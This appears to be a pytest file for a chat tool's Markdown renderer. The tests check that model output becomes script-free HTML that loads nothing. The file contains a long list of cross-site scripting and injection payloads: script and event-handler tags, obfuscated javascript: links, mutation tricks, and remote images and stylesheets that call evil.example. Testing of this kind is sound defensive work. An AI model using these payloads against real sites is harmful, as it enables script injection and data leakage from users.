"""Markdown of language models becomes HTML that runs nothing and loads nothing."""

from __future__ import annotations

import re
import time
from html.parser import HTMLParser

import pytest

from research_kit.chat.markdown import (
    MAX_MARKDOWN_CHARACTERS,
    MAX_SHOWN_CHARACTERS,
    GrowingMarkdown,
    clean_text,
    render_markdown,
)

PLAIN_TAGS = "br hr h1 h2 h3 h4 h5 h6 ul li blockquote pre em strong s table thead tbody tr"
ALLOWED = {
    **dict.fromkeys(PLAIN_TAGS.split(), frozenset()),
    "a": {"href", "title", "target", "rel"},
    "ol": {"start"},
    "code": {"class"},
    "img": {"src", "alt"},
    "math": {"display"},
    "p": {"class"},
    "span": {"class"},
    "td": {"style"},
    "th": {"style"},
}

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script_in_list": "- a\n- <script>alert(1)</script>",
    "script_split": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "image_onerror": "<img src=x onerror=alert(1)>",
    "image_onerror_slashes": "<img/src=x/onerror=alert(1)//",
    "svg_onload": "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>",
    "math_xlink": '<math><a xlink:href="javascript:alert(1)">x</a></math>',
    "iframe": '<iframe src="javascript:alert(1)" srcdoc="<script>alert(1)</script>"></iframe>',
    "style_element": "<style>@import 'http://evil.example/x.css'; * { display: none }</style>",
    "style_attribute": '<p style="background:url(http://evil.example/x.png)">x</p>',
    "link_element": '<link rel="stylesheet" href="http://evil.example/x.css">',
    "base_element": '<base href="http://evil.example/">',
    "meta_refresh": '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    "form": '<form action="http://evil.example/"><input name=x><button>go</button></form>',
    "object": '<object data="http://evil.example/x.swf"></object><embed src="http://evil.example/x">',
    "video": '<video src="http://evil.example/x.mp4" onerror=alert(1) autoplay></video>',
    "details_ontoggle": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "template_mutation": "<template><script>alert(1)</script></template>",
    "noscript_mutation": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "javascript_link": "[x](javascript:alert(1))",
    "javascript_link_case": "[x](JaVaScRiPt:alert(1))",
    "javascript_link_entities": "[x](&#106;avascript&#58;alert(1))",
    "javascript_link_tab": "[x](java\tscript:alert(1))",
    "javascript_link_angle": "[x](<javascript:alert(1)>)",
    "javascript_link_percent": "[x](javascript%3Aalert(1))",
    "javascript_link_null": "[x](\x00javascript:alert(1))",
    "javascript_reference": "[x][1]\n\n[1]: javascript:alert(1)",
    "javascript_autolink": "<javascript:alert(1)>",
    "vbscript_link": "[x](vbscript:msgbox(1))",
    "data_link": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "data_image": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "file_link": "[x](file:///etc/passwd)",
    "relative_link": "[x](/api/contents)",
    "protocol_relative_link": "[x](//evil.example/)",
    "remote_image": "![x](http://evil.example/pixel.png?secret=1)",
    "remote_image_reference": "![x][1]\n\n[1]: http://evil.example/pixel.png",
    "image_in_link": "[![x](http://evil.example/a.png)](http://evil.example/)",
    "image_alt_breakout": '![" onerror="alert(1)](http://evil.example/a.png)',
    "title_breakout": '[x](http://a.example "\\" onmouseover=\\"alert(1)")',
    "address_breakout": '[x](http://a.example/"onmouseover="alert(1))',
    "code_breakout": "```html\n</code></pre><script>alert(1)</script>\n```",
    "fence_language_breakout": '```"><script>alert(1)</script>\nx\n```',
    "inline_code_breakout": "`</code><script>alert(1)</script>`",
    "table_breakout": "|a|\n|-|\n|<img src=x onerror=alert(1)>|",
    "heading_breakout": "# <svg/onload=alert(1)>",
    "fullwidth_scheme": "[x](javascript\uff1aalert(1))",
    "zero_width_scheme": "[x](java\u200bscript:alert(1))",
    "bidi_override": "\u202e<script>alert(1)</script>\u202c",
    "homoglyph_tag": "<\u0455cript>alert(1)</\u0455cript>",
    "lone_surrogate": "a \ud800 <script>\udfff</script>",
    "null_in_tag": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "deep_quote": ">" * 5000 + "<script>alert(1)</script>",
    "deep_list": "* " * 5000 + "<script>alert(1)</script>",
}


class TagReader(HTMLParser):
    """Collects the elements of a piece of HTML."""

    def __init__(self) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag


def elements_of(html: str) -> list[tuple[str, dict[str, str | None]]]:
    reader = TagReader()
    reader.feed(html)
    reader.close()
    return reader.elements


def assert_harmless(html: str) -> None:
    for tag, attributes in elements_of(html):
        assert tag in ALLOWED, f"<{tag}> in {html!r}"
        unexpected = set(attributes) - ALLOWED[tag]
        assert not unexpected, f"<{tag}> has {unexpected} in {html!r}"
        address = attributes.get("href")
        assert address is None or address.startswith(("http://", "https://", "mailto:")), html
        assert tag != "a" or (attributes["target"] == "_blank" and "noopener" in (attributes["rel"] or "")), (
            html
        )
        assert tag != "code" or re.fullmatch(r"(language-[a-z+0-9]+)?", attributes.get("class") or ""), html
        assert (attributes.get("style") or "text-align").startswith("text-align"), html


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_render_markdown_leaves_nothing_executable(text: str) -> None:
    """No element or attribute beyond the allowlist survives, whatever the text."""
    assert_harmless(render_markdown(text))


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_render_markdown_is_harmless_inside_long_texts(text: str) -> None:
    """A text too long for Markdown is as harmless as a short one."""
    html = render_markdown(text + "x" * MAX_MARKDOWN_CHARACTERS)
    assert_harmless(html)
    assert {tag for tag, _ in elements_of(html)} == {"pre", "code"}


@pytest.mark.parametrize("image", ["![x](http://evil.example/a.png)", "![x](https://a.example/a.svg#data:)"])
def test_render_markdown_loads_no_images(image: str) -> None:
    """An image of a model's answer is not requested; its caption stays."""
    html = render_markdown(image)
    assert "<img" not in html
    assert ">x</a>" in html


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("**bold** *slanted* ~~gone~~", "<p><strong>bold</strong> <em>slanted</em> <s>gone</s></p>\n"),
        ("1 < 2 & 3", "<p>1 &lt; 2 &amp; 3</p>\n"),
        ("<b>x</b>", "<p>&lt;b&gt;x&lt;/b&gt;</p>\n"),
        ("3. a\n4. b", '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>\n'),
        (
            "[x](https://a.example 'y')",
            '<p><a href="https://a.example" title="y" target="_blank" rel="noopener noreferrer">x</a></p>\n',
        ),
        ("|a|b|\n|-|-:|\n|1|2|", '<td style="text-align:right">2</td>'),
        ("```python\nreturn 1\n```", '<span class="rk-hl-k">return</span>'),
        ("```\n\na < b\n```", "<pre><code>\na &lt; b\n</code></pre>"),
        ("", ""),
    ],
    ids=["inline", "escaped", "raw html", "list", "link", "table", "code", "plain code", "empty"],
)
def test_render_markdown_keeps_what_is_allowed(text: str, expected: str) -> None:
    """Emphasis, lists, tables, links and code come out as HTML."""
    assert expected in render_markdown(text)


def test_render_markdown_shows_pictures_that_are_in_the_text() -> None:
    """Pixels that the text brings along are shown; documents that call themselves pictures are not."""
    pixels = "data:image/png;base64,iVBORw0KGgo="
    assert f'<img src="{pixels}" alt="x">' in render_markdown(f"![x]({pixels})")
    for kind in ("image/svg+xml", "text/html", "image/png,x"):
        assert "<img" not in render_markdown(f"![x](data:{kind};base64,AAAA)")


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("$x^2$", "<msup><mi>x</mi><mn>2</mn></msup>"),
        ("$$\n\\frac{1}{2}\n$$", '<math display="block">'),
        ("It costs $5 or $6.", "<p>It costs $5 or $6.</p>"),
        ("$\\frac$", "<code>\\frac</code>"),
        ("`$x$`", "<code>$x$</code>"),
        (f"${'a+' * 600}b$", "<code>a+"),
    ],
    ids=["inline", "block", "money", "broken", "code", "long"],
)
def test_render_markdown_sets_formulas(text: str, expected: str) -> None:
    """LaTeX between dollars becomes MathML, which needs no script; what is no formula stays as it is."""
    assert expected in render_markdown(text)


@pytest.mark.parametrize("end", ["", "\n\n[q]: http://a.example"], ids=["plain", "late definition"])
def test_growing_markdown_ends_as_the_whole(end: str) -> None:
    """Block by block, however the text is cut, the HTML is at the end that of the whole text."""
    start = (
        "# T\n\np **a** [z][q]\n\n- a\n- b\n\n```python\nx\n\ny\n```\n\n|a|\n|-|\n|1|\n\n1. x\n\n   y\n\ne"
    )
    text = start + end
    for step in (1, 3, 7, 50):
        growing = GrowingMarkdown()
        for length in range(0, len(text) + 1, step):
            growing.grow(text[:length])
        kept, html = growing.finish(text)
        assert kept == growing.length or kept == 0
        assert (growing.html if kept else "") + html == render_markdown(text)


def test_render_markdown_counts_what_it_does_not_show() -> None:
    """A text beyond the limit is cut, and the reader learns by how much."""
    html = render_markdown("x" * (MAX_SHOWN_CHARACTERS + 1234))
    assert html.count("x") == MAX_SHOWN_CHARACTERS
    assert "1,234 more characters" in html


@pytest.mark.parametrize(
    "unit",
    ["[", "![", "[a](", "`", "*a **a ", "_a", ">", "|a", "<a ", "&", "~~a", "\\", "\n- ", "```py\n'"],
)
def test_render_markdown_ends_soon_on_repetitions(unit: str) -> None:
    """Text made to keep a parser busy is rendered within seconds."""
    text = (unit * MAX_MARKDOWN_CHARACTERS)[:MAX_MARKDOWN_CHARACTERS]
    started_s = time.process_time()
    assert_harmless(render_markdown(text))
    assert time.process_time() - started_s < 10


def test_clean_text_replaces_lone_surrogates() -> None:
    """Half a character, which no message can carry, is replaced; whole ones stay."""
    assert clean_text("a\ud83d b\U0001f427") == "a? b\U0001f427"
